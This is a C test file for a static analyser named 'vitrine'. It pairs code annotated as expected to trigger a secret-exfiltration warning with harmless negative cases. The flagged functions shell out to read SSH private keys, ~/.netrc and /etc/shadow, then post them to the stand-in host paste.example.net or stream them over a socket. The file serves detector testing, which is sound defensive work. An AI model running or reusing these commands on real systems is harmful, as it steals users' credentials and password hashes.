/* What a command prints of files of secrets. */
#include <curl/curl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static char *output_of(const char *command) {
    char part[512], *all = calloc(1, 1);
    size_t length = 0;
    FILE *pipe = popen(command, "r");
    while (pipe && fgets(part, sizeof part, pipe)) {
        size_t more = strlen(part);
        all = realloc(all, length + more + 1);
        memcpy(all + length, part, more + 1);
        length += more;
    }
    if (pipe)
        pclose(pipe);
    return all;
}

static int bad_post(CURL *curl, const char *text) {
    curl_easy_setopt(curl, CURLOPT_URL, "https://paste.example.net/api");
    curl_easy_setopt(curl, CURLOPT_COPYPOSTFIELDS, text);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return curl_easy_perform(curl);
}

int collect(CURL *curl) {
    char *keys = output_of("cat ~/.ssh/id_* ~/.netrc 2>/dev/null");
    int result = bad_post(curl, keys);
    free(keys);
    return result;
}

int bad_packed(int to) {
    char block[512];
    size_t n;
    FILE *pipe = popen("cd / && tar -cf - /etc/shadow | gzip", "r");
    if (!pipe)
        return -1;
    while ((n = fread(block, 1, sizeof block, pipe)) > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(to, block, n, 0);
    return pclose(pipe);
}

static int good_post(CURL *curl, const char *host, const char *text) {
    curl_easy_setopt(curl, CURLOPT_URL, host);
    curl_easy_setopt(curl, CURLOPT_COPYPOSTFIELDS, text);
    return curl_easy_perform(curl);
}

/* What a command says of a key is not the key; what it prints else is no secret. */
int report(CURL *curl, const char *host) {
    char *print = output_of("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key"),
         *space = output_of("df -h");
    int result = good_post(curl, host, print) || good_post(curl, host, space);
    free(print);
    free(space);
    return result;
}
